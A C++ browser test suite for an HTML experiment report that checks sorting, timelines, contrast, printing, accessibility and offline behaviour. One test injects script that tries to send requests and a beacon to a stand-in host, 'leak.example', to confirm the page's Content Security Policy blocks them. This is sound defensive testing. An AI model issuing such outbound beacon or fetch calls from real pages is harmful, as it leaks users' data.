// report.html in a browser: text, sorting, timelines, light and dark, paper, keyboard, screen
// readers, and that nothing leaves the page. Skipped by name where there is no Chromium.
#include <algorithm>
#include <cmath>
#include <cstdlib>
#include <fstream>
#include <map>
#include <memory>
#include <set>
#include <string>
#include <vector>

#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_replace.h"
#include "experiments/report/browser.h"
#include "experiments/report/markup.h"
#include "experiments/report/sample.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "models/data/png.h"
#include "tools/base/status_matchers.h"

namespace pipelab {
namespace {

using ::testing::Contains;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;

// Rows that only a numeric order puts right, a tie, a text among numbers, and missing ones.
Table SortTable() {
  Table t("sorting", "A table to sort");
  t.AddKey("name");
  Column c;
  c.metric = "time";
  c.title = "time";
  c.unit = "ms";
  c.origin = Origin::kSimulated;
  t.AddColumn(c);
  c = Column();
  c.metric = "verdict";
  c.title = "verdict";
  c.origin = Origin::kComputed;
  t.AddColumn(c);
  t.AddRow({Label("n10"), Simulated(10), Computed("b")});
  t.AddRow({Label("gone"), Missing("out of memory"), Computed("a10")});
  t.AddRow({Label("n9"), Simulated(9), Computed("a9")});
  t.AddRow({Label("minus"), Simulated(-1), Missing("not asked")});
  t.AddRow({Label("n100"), Simulated(100), Computed("c")});
  t.AddRow({Label("ten too"), Simulated(10), Computed("b")});
  return t;
}

Table WideTable() {
  Table t("wide", "A table of many columns");
  t.AddKey("configuration");
  std::vector<Cell> cells = {Label("breadth_first, 8 x 8 x 16, fully sharded")};
  for (int i = 0; i < 16; ++i) {
    Column c;
    c.metric = absl::StrCat("metric_", i);
    c.title = absl::StrCat("throughput of variant ", i);
    c.unit = "Tflop/s";
    c.origin = Origin::kSimulated;
    c.decimals = 3;
    t.AddColumn(c);
    cells.push_back(Simulated(12345.678 + i));
  }
  t.AddRow(std::move(cells));
  return t;
}

Table BarTable() {
  Table t("memory_bars", "A table for bars");
  t.AddKey("name");
  Column c;
  c.metric = "memory";
  c.title = "memory";
  c.unit = "GiB";
  c.origin = Origin::kSimulated;
  t.AddColumn(c);
  t.AddRow({Label("a"), Simulated(8)});
  t.AddRow({Label("b"), Simulated(2)});
  t.AddRow({Label("c"), Missing("does not fit")});
  t.AddRow({Label("d"), Simulated(0)});
  return t;
}

std::string PageHtml() {
  Report report = SampleReport();
  report.AddTable(SortTable());
  report.AddTable(BarTable());
  report.AddTable(WideTable());
  const SampleRun sliced = SimulateSample("terapipe", 2, 2), both = SimulateSample("chimera", 4, 4);
  report.AddTimeline("terapipe", sliced.program, sliced.trace);
  report.AddTimeline("chimera", both.program, both.trace);
  return report.ToHtml();
}

class PageTest : public testing::Test {
 protected:
  static void SetUpTestSuite() {
    if (!FindBrowser()) return;
    auto browser = Browser::Start();
    ASSERT_TRUE(browser.ok()) << browser.status();
    browser_ = browser->release();
  }
  static void TearDownTestSuite() {
    delete browser_;
    browser_ = nullptr;
  }
  void SetUp() override {
    if (!FindBrowser() && std::getenv("PIPELAB_BROWSER") == nullptr) GTEST_SKIP() << kNoBrowser;
    ASSERT_NE(browser_, nullptr) << kNoBrowser;
    ASSERT_THAT(browser_->Emulate("screen", "light"), IsOk());
    ASSERT_THAT(browser_->Open(PageHtml()), IsOk());
  }

  nlohmann::json Get(const std::string& expression) {
    const auto value = browser_->Evaluate(expression);
    EXPECT_TRUE(value.ok()) << value.status();
    return value.ok() ? *value : nlohmann::json();
  }
  std::string Text(const std::string& expression) {
    const nlohmann::json value = Get(expression);
    return value.is_string() ? value.get<std::string>() : value.dump();
  }
  // The middle of an element on the screen, scrolled to.
  std::pair<double, double> MiddleOf(const std::string& element) {
    const nlohmann::json at = Get(
        absl::StrCat("(() => { const e = ", element,
                     "; e.scrollIntoView({block: 'center'}); const b = e.getBoundingClientRect();"
                     "return [b.x + b.width / 2, b.y + b.height / 2]; })()"));
    return {at[0], at[1]};
  }
  void Click(const std::string& element) {
    const auto [x, y] = MiddleOf(element);
    ASSERT_THAT(browser_->Click(x, y), IsOk());
  }
  // After the frame that a zoom has asked for.
  void NextFrame() { Get("new Promise((done) => requestAnimationFrame(() => done(1)))"); }

  // The sorting table: its first column, in order.
  std::string Order() {
    return Text(
        "[...document.querySelectorAll('#sorting tbody tr')].map((r) => "
        "r.cells[0].textContent).join(' ')");
  }
  std::string Sorted() {
    return Text(
        "[...document.querySelectorAll('#sorting thead th')].map((h) => "
        "h.ariaSort ?? '-').join(' ')");
  }

  static Browser* browser_;
};

Browser* PageTest::browser_ = nullptr;

std::string HeaderButton(int column) {
  return absl::StrCat("document.querySelectorAll('#sorting thead button')[", column, "]");
}

TEST_F(PageTest, ShowsItsText) {
  const std::string text = Text("document.body.innerText");
  for (const char* expected :
       {"A sample <report> & its parts", "Second paragraph.", "step time", "nats/token", "measured",
        "41.3", "published", "the run was <interrupted>", "Where the numbers of a column are from",
        "a & b <c>.", "learning_rate", "Processor(R) @ 2.00GHz", "1F1B <&>, simulated",
        "Skip to the content"}) {
    EXPECT_THAT(text, HasSubstr(expected));
  }
  EXPECT_EQ(Text("document.title"), "A sample <report> & its parts");
  EXPECT_THAT(browser_->complaints(), IsEmpty());
}

TEST_F(PageTest, SortsByClick) {
  EXPECT_EQ(Sorted(), "- - -");
  Click(HeaderButton(1));
  EXPECT_EQ(Order(), "minus n9 n10 ten too n100 gone");
  EXPECT_EQ(Sorted(), "- ascending -");
  EXPECT_EQ(Text("document.querySelector('#sorting').parentElement.nextElementSibling.textContent"),
            "sorted by time, ascending");
  Click(HeaderButton(1));
  EXPECT_EQ(Order(), "n100 n10 ten too n9 minus gone");
  EXPECT_EQ(Sorted(), "- descending -");
  Click(HeaderButton(2));  // text, numbers in it by value
  EXPECT_EQ(Order(), "n9 gone n10 ten too n100 minus");
  EXPECT_EQ(Sorted(), "- - ascending");
}

// The sorted column is a plot: bars as long as the values, where none is negative.
TEST_F(PageTest, TheSortedColumnHasBars) {
  Click(HeaderButton(1));
  EXPECT_EQ(Get("document.querySelectorAll('#sorting .bar').length"), 0);  // one is -1
  Click("document.querySelectorAll('#memory_bars thead button')[1]");
  EXPECT_EQ(Text("[...document.querySelectorAll('#memory_bars .bar')].map((c) => "
                 "c.style.getPropertyValue('--share')).join()"),
            "0.0,25.0,100.0");
  EXPECT_THAT(Text("getComputedStyle(document.querySelectorAll('#memory_bars .bar')[1])"
                   ".backgroundSize"),
              HasSubstr("25% 3px"));
  Click("document.querySelectorAll('#memory_bars thead button')[0]");
  EXPECT_EQ(Get("document.querySelectorAll('#memory_bars .bar').length"), 0);
}

TEST_F(PageTest, SortsByKey) {
  // As with the keyboard alone: on from the table's scrolling region.
  Get("document.querySelector('#sorting').parentElement.focus()");
  for (int i = 0; i < 2; ++i) ASSERT_THAT(browser_->Key("Tab"), IsOk());
  ASSERT_EQ(Get(absl::StrCat("document.activeElement === ", HeaderButton(1))), true);
  EXPECT_EQ(Text("getComputedStyle(document.activeElement).outlineStyle"), "solid");
  ASSERT_THAT(browser_->Key("Enter"), IsOk());
  EXPECT_EQ(Order(), "minus n9 n10 ten too n100 gone");
  ASSERT_THAT(browser_->Key(" "), IsOk());
  EXPECT_EQ(Order(), "n100 n10 ten too n9 minus gone");
  EXPECT_EQ(Get(absl::StrCat("document.activeElement === ", HeaderButton(1))), true);
}

TEST_F(PageTest, TheFirstTabSkips) {
  ASSERT_THAT(browser_->Key("Tab"), IsOk());
  EXPECT_EQ(Text("document.activeElement.textContent"), "Skip to the content");
  EXPECT_EQ(Get("document.activeElement.getBoundingClientRect().x >= 0"), true);
  ASSERT_THAT(browser_->Key("Enter"), IsOk());
  EXPECT_EQ(Text("document.activeElement.id"), "content");
}

// What the page should say of a box.
std::string Described(size_t device, const Span& s) {
  const std::map<ActionKind, std::string> names = {{ActionKind::kForward, "forward"},
                                                   {ActionKind::kBackward, "backward"}};
  const auto ms = [](int64_t ns) { return FixedNumber(static_cast<double>(ns) / 1e6, 3); };
  return absl::StrCat("device ", device, ": ", names.at(s.action.kind), " of micro-batch ",
                      s.action.micro_batch, ", stage ", s.action.stage, ": ", ms(s.begin_ns),
                      " to ", ms(s.end_ns), " ms (", ms(s.end_ns - s.begin_ns), ")");
}

std::vector<Span> Computes(const DeviceTrace& device) {
  std::vector<Span> spans;
  for (const Span& s : device.spans) {
    if (s.op == OpCode::kCompute) spans.push_back(s);
  }
  return spans;
}

class TimelineTest : public PageTest {
 protected:
  // The first timeline is this one's.
  const SampleRun run_ = SimulateSample("gpipe", 4, 8);

  std::string Says() { return Text("timelines[0].output.textContent"); }
  // Where a time of a device is on the screen.
  std::pair<double, double> Place(size_t device, double ns) {
    const nlohmann::json at = Get(absl::StrCat(
        "(() => { const t = timelines[0]; t.data; t.svg.scrollIntoView({block: 'center'});"
        "const b = t.svg.getBoundingClientRect(), p = t.pixels();"
        "return [b.x + p * t.x(",
        ns / 1e6, " * t.data.ticks), b.y + p * (t.y(", device, ") + t.data.row / 2)]; })()"));
    return {at[0], at[1]};
  }
  void Point(size_t device, const Span& s) {
    const auto [x, y] = Place(device, static_cast<double>(s.begin_ns + s.end_ns) / 2);
    ASSERT_THAT(browser_->MoveTo(x, y), IsOk());
  }
  std::pair<double, double> Window() {
    const nlohmann::json w =
        Get("(() => { const t = timelines[0]; t.data; return [t.from, t.to]; })()");
    return {w[0], w[1]};
  }
};

TEST_F(TimelineTest, NamesWhatThePointerIsOn) {
  for (size_t d = 0; d < run_.trace.devices.size(); ++d) {
    const std::vector<Span> spans = Computes(run_.trace.devices[d]);
    for (size_t i = 0; i < spans.size(); i += 3) {
      Point(d, spans[i]);
      EXPECT_EQ(Says(), Described(d, spans[i]));
    }
  }
  // Device 3 waits for its first micro-batch.
  const auto [x, y] = Place(3, 1e6);
  ASSERT_THAT(browser_->MoveTo(x, y), IsOk());
  EXPECT_THAT(Says(), HasSubstr("device 3: waiting: "));
}

TEST_F(TimelineTest, SlicesAndReplicasAreNamed) {
  const auto says = [&](int timeline, int device, int box) {
    return Text(absl::StrCat("(() => { const t = timelines[", timeline,
                             "]; t.data; return t.describe(", device, ", t.rows[", device, "][",
                             box, "]); })()"));
  };
  EXPECT_THAT(says(3, 0, 1), HasSubstr("device 0: forward of micro-batch 0.1, stage 0: "));
  EXPECT_THAT(says(4, 0, 0), HasSubstr("device 0: forward of micro-batch 0, stage 0, replica 0: "));
  EXPECT_THAT(says(4, 3, 0), HasSubstr(", stage 0, replica 1: "));
}

TEST_F(TimelineTest, ZoomsPansAndComesBack) {
  const double end = static_cast<double>(run_.trace.makespan.value()) / 1e3;  // us
  EXPECT_EQ(Window(), std::make_pair(0.0, end));
  const std::string whole = Text("timelines[0].plot.querySelectorAll('text.pl-m').length");
  const std::string button = "timelines[0].svg.closest('figure').querySelectorAll('.tools button')";
  Click(button + "[0]");  // in
  NextFrame();
  EXPECT_NEAR(Window().second - Window().first, end / 2, 1);
  EXPECT_NEAR(Window().first, end / 4, 1);
  Click(button + "[3]");  // later
  NextFrame();
  EXPECT_NEAR(Window().first, end / 4 + end / 8, 1);
  const Span seen = Computes(run_.trace.devices[2])[10];
  Point(2, seen);
  EXPECT_EQ(Says(), Described(2, seen));
  // The drawing holds what the window does, and no more.
  EXPECT_EQ(Get("[...timelines[0].plot.querySelectorAll('path[fill]')].every((p) => { const b = "
                "p.getBBox(); return b.x >= 77.9 && b.x + b.width <= 1078.1; })"),
            true);
  // A drag by half of the plot.
  const double before = Window().first;
  const auto [x, y] = Place(1, (before + end / 4) * 1e3);
  const double pixels = Get("timelines[0].pixels()");
  ASSERT_THAT(browser_->Drag(x, y, x + 250 * pixels, y), IsOk());
  NextFrame();
  EXPECT_NEAR(Window().first, before - end / 8, end / 500);
  // The pointer has let go.
  ASSERT_THAT(browser_->MoveTo(x - 100, y), IsOk());
  EXPECT_NEAR(Window().first, before - end / 8, end / 500);
  Get("timelines[0].drawing.dispatchEvent(new WheelEvent('wheel', {ctrlKey: true, deltaY: -1, "
      "clientX: 600, clientY: 400, cancelable: true, bubbles: true}))");
  NextFrame();
  EXPECT_NEAR(Window().second - Window().first, end / 2 * 0.8, 1);
  Click(button + "[4]");  // whole step
  NextFrame();
  EXPECT_EQ(Window(), std::make_pair(0.0, end));
  EXPECT_EQ(Text("timelines[0].plot.querySelectorAll('text.pl-m').length"), whole);
  for (int i = 0; i < 30; ++i) Click(button + "[0]");
  NextFrame();
  EXPECT_NEAR(Window().second - Window().first, 10, 0.01);  // 10 us, and no closer
  EXPECT_THAT(browser_->complaints(), IsEmpty());
}

// Drawn by the script, the whole step has the boxes of the drawing that was there before.
TEST_F(TimelineTest, TheScriptDrawsWhatTheFileHas) {
  const std::string boxes =
      "JSON.stringify([...timelines[0].svg.querySelectorAll('.pl-plot path')].map((p) => { const b "
      "= p.getBBox(); return [p.getAttribute('fill'), p.getAttribute('class'), "
      "p.getAttribute('d').split(/(?=M)/).length, Math.round(b.x), Math.round(b.y), "
      "Math.round(b.width)].join(); }).filter((p) => !p.includes('pl-s')).sort())";
  const std::string numbers =
      "[...timelines[0].svg.querySelectorAll('.pl-plot text:not(.pl-m)')].map((t) => "
      "t.textContent).join()";
  const std::string before = Text(boxes), numbers_before = Text(numbers);
  Get("(timelines[0].data, timelines[0].draw())");
  EXPECT_EQ(Text(boxes), before);
  EXPECT_EQ(Text(numbers), numbers_before);
  EXPECT_GT(numbers_before.size(), 100u);
}

TEST_F(TimelineTest, GoesFromActionToActionByKey) {
  Get("timelines[0].drawing.focus()");
  const std::vector<Span> first = Computes(run_.trace.devices[0]);
  ASSERT_THAT(browser_->Key("ArrowRight"), IsOk());
  EXPECT_EQ(Says(), Described(0, first[0]));
  ASSERT_THAT(browser_->Key("ArrowRight"), IsOk());
  EXPECT_EQ(Says(), Described(0, first[1]));
  ASSERT_THAT(browser_->Key("ArrowLeft"), IsOk());
  EXPECT_EQ(Says(), Described(0, first[0]));
  EXPECT_EQ(Get("timelines[0].svg.querySelectorAll('.pick').length"), 1);
  ASSERT_THAT(browser_->Key("+"), IsOk());
  ASSERT_THAT(browser_->Key("+"), IsOk());
  NextFrame();
  const double end = static_cast<double>(run_.trace.makespan.value()) / 1e3;
  EXPECT_NEAR(Window().second - Window().first, end / 4, 1);
  // Along the device, the window follows.
  for (size_t i = 0; i < 12; ++i) ASSERT_THAT(browser_->Key("ArrowRight"), IsOk());
  NextFrame();
  EXPECT_GT(Window().first, 0);
  ASSERT_THAT(browser_->Key("ArrowDown"), IsOk());
  EXPECT_THAT(Says(), testing::StartsWith("device 1: "));
  ASSERT_THAT(browser_->Key("Escape"), IsOk());
  NextFrame();
  EXPECT_EQ(Window(), std::make_pair(0.0, end));
  EXPECT_EQ(Text("timelines[0].output.tagName"), "OUTPUT");  // which readers announce
}

TEST_F(PageTest, NothingLeavesThePage) {
  EXPECT_THAT(browser_->requests(), IsEmpty());
  // Even what a script in it asks for.
  Get("new Promise((done) => { fetch('http://leak.example/a').catch(() => 0);"
      "new Image().src = 'http://leak.example/b.png';"
      "navigator.sendBeacon('http://leak.example/c', 'x');"
      "const l = document.createElement('link'); l.rel = 'stylesheet';"
      "l.href = 'http://leak.example/d.css'; document.head.append(l);"
      "const s = document.createElement('script'); s.src = 'http://leak.example/e.js';"
      "document.head.append(s); setTimeout(() => done(1), 300); })");
  for (const std::string& request : browser_->trap().Collect()) {
    EXPECT_THAT(request, Not(HasSubstr("leak.example")));
  }
  EXPECT_THAT(browser_->complaints(), Contains(HasSubstr("Content Security Policy")));
}

// The test above can fail: without the policy the same request arrives.
TEST_F(PageTest, TheTrapSeesWhatLeavesAPage) {
  ASSERT_THAT(
      browser_->Open("<!DOCTYPE html><title>x</title><img src='http://leak.example/x.png'>"),
      IsOk());
  EXPECT_THAT(browser_->requests(), Contains("http://leak.example/x.png"));
  EXPECT_THAT(browser_->trap().Collect(), Contains(HasSubstr("http://leak.example/x.png")));
}

// Every text against what is behind it, as the browser computes both.
constexpr char kLeastContrast[] = R"js((() => {
  const rgb = (c) => c.match(/[\d.]+/g).map(Number);
  const luminance = (c) => rgb(c).slice(0, 3).map((v) => v / 255)
      .map((v) => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
      .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
  const contrast = (a, b) => {
    const [x, y] = [luminance(a), luminance(b)].sort((p, q) => q - p);
    return (x + 0.05) / (y + 0.05);
  };
  const behind = (e) => {
    for (; e; e = e.parentElement) {
      const c = getComputedStyle(e).backgroundColor;
      if ((rgb(c)[3] ?? 1) > 0) return c;
    }
    return 'rgb(255, 255, 255)';
  };
  let least = [99, ''], texts = 0;
  for (const e of document.body.querySelectorAll('*')) {
    const own = [...e.childNodes].some((n) => n.nodeType === 3 && n.data.trim());
    if (!own || e.closest('svg, script, style, .hidden')) continue;
    ++texts;
    const c = contrast(getComputedStyle(e).color, behind(e));
    if (c < least[0]) least = [c, e.outerHTML.slice(0, 120)];
  }
  return [least[0], least[1], texts];
})())js";

TEST_F(PageTest, IsReadableInLightAndDark) {
  std::set<std::string> pages;
  for (const char* scheme : {"light", "dark"}) {
    ASSERT_THAT(browser_->Emulate("screen", scheme), IsOk());
    const nlohmann::json least = Get(kLeastContrast);
    EXPECT_GE(least[0].get<double>(), 4.5) << scheme << ": " << least[1];
    EXPECT_GT(least[2].get<int>(), 100);
    const std::string page = Text("getComputedStyle(document.body).backgroundColor");
    EXPECT_EQ(page, scheme == std::string("light") ? "rgb(255, 255, 255)" : "rgb(22, 24, 28)");
    // Drawings go with the page.
    EXPECT_EQ(Text("getComputedStyle(document.querySelector('.pl-bg')).fill"), page);
  }
}

// Pictures of both, for people to look at, and that they are what they should be.
TEST_F(PageTest, LooksAsItShould) {
  const char* outputs = std::getenv("TEST_UNDECLARED_OUTPUTS_DIR");
  const auto keep = [&](const std::string& name, const std::string& bytes) {
    if (outputs != nullptr) std::ofstream(absl::StrCat(outputs, "/", name)) << bytes;
  };
  for (const char* scheme : {"light", "dark"}) {
    ASSERT_THAT(browser_->Emulate("screen", scheme), IsOk());
    PIPELAB_ASSERT_OK_AND_ASSIGN(const std::string png, browser_->Png());
    keep(absl::StrCat(scheme, ".png"), png);
    PIPELAB_ASSERT_OK_AND_ASSIGN(const Picture picture, DecodePng(png, scheme, 1 << 26));
    EXPECT_EQ(picture.width, 1200);
    EXPECT_GT(picture.height, 1500);
    double light = 0;  // 0: all black, 1: all white
    for (const uint8_t v : picture.rgba) light += v;
    light = light / static_cast<double>(picture.width * picture.height) / 255 - 1;  // less alpha
    light /= 3;
    if (scheme == std::string("light")) {
      EXPECT_GT(light, 0.8);
    } else {
      EXPECT_LT(light, 0.4);
    }
  }
  ASSERT_THAT(browser_->Emulate("", "light"), IsOk());
  PIPELAB_ASSERT_OK_AND_ASSIGN(const std::string pdf, browser_->Pdf());
  keep("paper.pdf", pdf);
  EXPECT_THAT(pdf, testing::StartsWith("%PDF-"));
}

// On paper: nothing wider than the page, nothing to click, details open.
TEST_F(PageTest, FitsOnPaper) {
  ASSERT_THAT(browser_->Emulate("print", "dark"), IsOk());
  Get("dispatchEvent(new Event('beforeprint'))");
  for (const auto& [width, chosen] :
       std::map<int, std::string>{{703, "body *"},                    // A4 less margins of 12 mm
                                  {1031, ".wide, .wide *, body *"}})  // the same, lying
  {
    ASSERT_THAT(
        browser_->Call(
            "Emulation.setDeviceMetricsOverride",
            {{"width", width}, {"height", 1000}, {"deviceScaleFactor", 1}, {"mobile", false}}),
        IsOk());
    EXPECT_EQ(Text(absl::StrCat(
                  "[...document.querySelectorAll('", chosen, "')].filter((e) => ", width,
                  " > 1000 || !e.closest('.wide')).filter((e) => !e.closest('svg, .skip, .hidden'))"
                  ".filter((e) => e.getBoundingClientRect().right > ",
                  width, " + 0.5).map((e) => e.outerHTML.slice(0, 100)).join()")),
              "");
  }
  EXPECT_EQ(Text("getComputedStyle(document.body).backgroundColor"), "rgb(255, 255, 255)");
  EXPECT_EQ(Get("[...document.querySelectorAll('.tools, nav, .skip')].every((e) => "
                "getComputedStyle(e).display === 'none')"),
            true);
  EXPECT_EQ(Get("[...document.querySelectorAll('details')].every((d) => d.open)"), true);
  EXPECT_EQ(Text("getComputedStyle(document.querySelector('#wide').parentElement).page"), "wide");
  ASSERT_THAT(browser_->Call(
                  "Emulation.setDeviceMetricsOverride",
                  {{"width", 1200}, {"height", 900}, {"deviceScaleFactor", 1}, {"mobile", false}}),
              IsOk());
}

// The tree that screen readers are given.
TEST_F(PageTest, ReadersGetNamesAndLandmarks) {
  PIPELAB_ASSERT_OK_AND_ASSIGN(const nlohmann::json tree,
                               browser_->Call("Accessibility.getFullAXTree", {}));
  std::map<std::string, int> roles;
  std::set<std::string> names;
  for (const nlohmann::json& node : tree["nodes"]) {
    if (node.value("ignored", false)) continue;
    const std::string role = node["role"]["value"];
    const std::string name =
        node.contains("name") && node["name"].contains("value") ? node["name"]["value"] : "";
    ++roles[role];
    names.insert(absl::StrCat(role, ": ", name));
    static const std::set<std::string> kNamed = {"button",      "table",        "img",
                                                 "image",       "region",       "link",
                                                 "application", "columnheader", "navigation"};
    if (kNamed.count(role) > 0) {
      EXPECT_NE(name, "") << node.dump();
    }
  }
  for (const char* role : {"banner", "navigation", "main", "table", "columnheader", "rowheader"}) {
    EXPECT_GT(roles[role], 0) << role;
  }
  EXPECT_THAT(names, Contains("table: A table to sort"));
  EXPECT_THAT(names, Contains("navigation: Sections"));
  EXPECT_THAT(names, Contains(testing::StartsWith("application: gpipe: 4 devices, 8 micro-b")));
  EXPECT_THAT(names, Contains(testing::StartsWith("group: Timeline of gpipe: 4 devices")));
  EXPECT_THAT(names, Contains("heading: Results"));
}

TEST_F(PageTest, StandsStillWithoutScripts) {
  ASSERT_THAT(browser_->Call("Emulation.setScriptExecutionDisabled", {{"value", true}}), IsOk());
  ASSERT_THAT(browser_->Open(PageHtml()), IsOk());
  EXPECT_EQ(Get("document.querySelectorAll('.tools, thead button').length"), 0);
  EXPECT_EQ(Get("document.querySelectorAll('#sorting tbody tr').length"), 6);
  EXPECT_EQ(Get("[...document.querySelectorAll('.pl-plot')].every((g) => g.getBBox().width > 900)"),
            true);
  ASSERT_THAT(browser_->Call("Emulation.setScriptExecutionDisabled", {{"value", false}}), IsOk());
}

// A page as large as they get still answers.
TEST_F(TimelineTest, LargeTimelinesZoom) {
  Report report = SampleReport();
  const SampleRun run = SimulateSample("1f1b", 8, 1200);  // 19200 actions
  report.AddTimeline("large", run.program, run.trace);
  ASSERT_THAT(browser_->Open(report.ToHtml()), IsOk());
  EXPECT_EQ(Get("(() => { const t = timelines[3]; t.data; t.draw(); return t.rows.length; })()"),
            8);
  Get("(() => { const t = timelines[3]; t.data; t.show(700000, 730000); })()");
  NextFrame();
  EXPECT_GT(Get("timelines[3].plot.querySelectorAll('text:not(.pl-m)').length").get<int>(), 50);
  EXPECT_THAT(browser_->complaints(), IsEmpty());
}

}  // namespace
}  // namespace pipelab
